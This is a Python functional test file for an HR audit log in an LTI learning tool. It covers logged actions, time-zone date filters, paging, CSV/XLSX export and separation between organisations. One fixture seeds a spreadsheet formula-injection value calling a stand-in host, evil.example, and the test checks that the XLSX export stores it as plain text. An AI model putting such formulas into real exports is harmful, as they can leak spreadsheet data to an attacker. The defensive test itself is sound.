"""The audit log at /hr/audit: every HR action lands in it (API token made and revoked,
certificate reissued and revoked, roster applied, export run, training file
downloaded), newest first, 50 a page, filtered by action and by dates read in the
organisation's time zone, downloadable as CSV and XLSX. HR of another organisation
sees none of it, on the page or in the downloads."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from zoneinfo import ZoneInfo

from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import select

from lti_tool.audit import log as audit
from lti_tool.audit.models import AuditEvent
from lti_tool.certificates.models import Certificate
from lti_tool.cli import AppContext, main
from lti_tool.db import get_db, utcnow
from lti_tool.lti.models import Organisation
from tests.functional.hr.conftest import complete
from tests.functional.hr.test_organisations import crowd_on, join
from tests.functional.practical.conftest import csrf
from tests.lti_platform import TestPlatform
from tests.support.tables import table

ZONE = "America/New_York"  # far from UTC and from the default Asia/Shanghai


def cli(app, *args):
    ctx = AppContext()
    ctx._app = app
    return CliRunner().invoke(main, list(args), obj=ctx)


def hr_acts(hr, base: str, db_session) -> None:
    """HR does one of each: token made and revoked, certificate reissued then revoked,
    roster applied, certificate export started, training file downloaded."""
    hr.get(f"{base}/hr/tokens")
    hr.submit(hr.page.form("token-form"), {"name": "SAP SuccessFactors"})
    hr.get(f"{base}/hr/tokens")
    hr.submit(hr.page.form(action_contains="/revoke"))
    first = db_session.scalars(select(Certificate)).one()
    hr.get(f"{base}/certificates/{first.id}")
    hr.submit(hr.page.form("reissue-form"), {"reason": "姓名变更"})
    hr.submit(hr.page.form("revoke-form"), {"reason": "考试作弊"})
    hr.get(f"{base}/hr/roster")
    dry = hr.session.post(f"{base}/hr/roster", timeout=15, data={"csrf_token": csrf(hr)},
                          files={"file": ("staff.csv", "工号,姓名,部门\nE1001,张伟,售后一部\n".encode(), "text/csv")})
    ticket = re.search(r'name="ticket" value="([^"]+)"', dry.text).group(1)
    assert hr.session.post(f"{base}/hr/roster/apply", timeout=15,
                           data={"csrf_token": csrf(hr), "ticket": ticket}).status_code == 200
    hr.get(f"{base}/hr/certificates")
    hr.submit(hr.page.form("export-form"))
    hr.get(f"{base}/hr/employees", {"q": "E1001"})
    hr.follow("张伟")
    assert hr.session.get(hr.url.split("?")[0] + ".xlsx", timeout=15).status_code == 200


def test_every_hr_action_is_in_the_audit_log_newest_first_in_the_organisations_zone(people, platform, app,
                                                                                      db_session):
    assert cli(app, "organisation", "timezone", "default", ZONE).exit_code == 0
    people("learner")
    complete(app, platform, "learner")
    hr = people("hr")
    base = platform.tool_base_url
    hr_acts(hr, base, db_session)
    hr.get(f"{base}/hr/")
    hr.follow("审计日志")  # in the HR console's navigation
    assert hr.url.split("?")[0].endswith("/hr/audit")
    rows = table(hr.response.text, "audit-events")
    expected = ["training_file.exported", "export.started", "roster.applied", "certificate.revoked",
                "certificate.reissued", "hr_token.revoked", "hr_token.created"]
    assert re.findall(r'data-action="([^"]+)"', hr.response.text) == expected
    assert all(row["操作人"] == "陈静" for row in rows)
    assert rows[3]["操作"] == "撤销证书" and "考试作弊" in rows[3]["详情"]
    newest = db_session.scalars(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
    assert rows[0]["时间"] == newest.at.astimezone(ZoneInfo(ZONE)).strftime("%Y-%m-%d %H:%M:%S")
    assert ZONE in hr.page.text_of("audit-total")

    hr.get(f"{base}/hr/audit", {"action": "certificate.revoked"})
    assert re.findall(r'data-action="([^"]+)"', hr.response.text) == ["certificate.revoked"]
    today = utcnow().astimezone(ZoneInfo(ZONE)).date()
    hr.get(f"{base}/hr/audit", {"from": today.isoformat(), "to": today.isoformat()})
    assert len(table(hr.response.text, "audit-events")) == len(expected)
    hr.get(f"{base}/hr/audit", {"from": (today + timedelta(days=1)).isoformat()})
    assert "没有符合条件的事件" in hr.page.text_of("audit-events")
    for bad in ({"action": "drop table"}, {"from": "2026-02-30"}, {"from": "2026-03-02", "to": "2026-03-01"}):
        answer = hr.session.get(f"{base}/hr/audit", params=bad, timeout=15)
        assert answer.status_code == 400 and "YYYY-MM-DD" in answer.text and "Traceback" not in answer.text


def test_the_audit_log_pages_by_fifty_and_downloads_as_csv_and_xlsx(people, platform, app, db_session):
    hr = people("hr")
    base = platform.tool_base_url
    organisation_id = db_session.scalar(select(Organisation.id).where(Organisation.slug == "default"))
    with get_db(app).sessionmaker.begin() as session:
        for n in range(62):
            audit.record(session, organisation_id=organisation_id, action="hr_token.created",
                         subject=f"API token t{n:02d}", actor_label="陈静", details={"n": n})
        audit.record(session, organisation_id=organisation_id, action="hr_token.revoked",
                     subject="=HYPERLINK(\"http://evil.example/?\"&A1)", actor_label="陈静")
    hr.get(f"{base}/hr/audit")
    first = table(hr.response.text, "audit-events")
    assert len(first) == 50 and first[0]["对象"].startswith("=HYPERLINK") and first[1]["对象"] == "API token t61"
    hr.follow("下一页")
    second = table(hr.response.text, "audit-events")
    assert len(second) == 13 and second[-1]["对象"] == "API token t00"

    csv_answer = hr.session.get(f"{base}/hr/audit.csv", params={"action": "hr_token.created"}, timeout=15)
    assert csv_answer.status_code == 200 and csv_answer.headers["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(csv_answer.content.decode("utf-8-sig"))))
    assert lines[0][:3] == ["时间（Asia/Shanghai）", "操作", "操作代码"]
    assert len(lines) == 63 and lines[1][3] == "API token t61" and lines[-1][3] == "API token t00"
    xlsx = hr.session.get(f"{base}/hr/audit.xlsx", timeout=15)
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    assert len(cells) == 1 + 63 + 1  # header, the events, and the CSV download just audited
    assert cells[1][2] == "audit.exported" and cells[2][3].startswith("=HYPERLINK")
    assert sheet.cell(row=3, column=4).data_type == "s"  # text, never a formula
    assert hr.session.get(f"{base}/hr/audit.pdf", timeout=15).status_code == 404


def test_hr_of_another_organisation_sees_none_of_its_events_nor_its_downloads(people, platform, app, db_session,
                                                                               live_tool):
    hr = people("hr")
    base = platform.tool_base_url
    hr.get(f"{base}/hr/tokens")
    hr.submit(hr.page.form("token-form"), {"name": "Our SAP"})
    ours = db_session.scalar(select(Organisation.id).where(Organisation.slug == "default"))
    with TestPlatform("Other company's Moodle", tool_base_url=live_tool.url) as other:
        join(app, other, "other-company")
        crowd = crowd_on(other)
        try:
            their_hr = crowd("hr")
            their_base = other.tool_base_url
            their_hr.get(f"{their_base}/hr/audit")
            assert "没有符合条件的事件" in their_hr.page.text_of("audit-events")
            for fmt in ("csv", "xlsx"):
                answer = their_hr.session.get(f"{their_base}/hr/audit.{fmt}", timeout=15,
                                              params={"organisation_id": ours, "organisation": "default"})
                assert answer.status_code == 200 and b"Our SAP" not in answer.content
            their_hr.get(f"{their_base}/hr/audit")
            assert [row["操作"] for row in table(their_hr.response.text, "audit-events")] == ["下载审计日志", "下载审计日志"]
        finally:
            crowd.close()
    theirs = db_session.scalar(select(Organisation.id).where(Organisation.slug == "other-company"))
    events = db_session.scalars(select(AuditEvent).where(AuditEvent.action == "audit.exported")).all()
    assert {e.organisation_id for e in events} == {theirs}
    hr.get(f"{base}/hr/audit")
    assert [row["操作"] for row in table(hr.response.text, "audit-events")] == ["创建 API 令牌"]
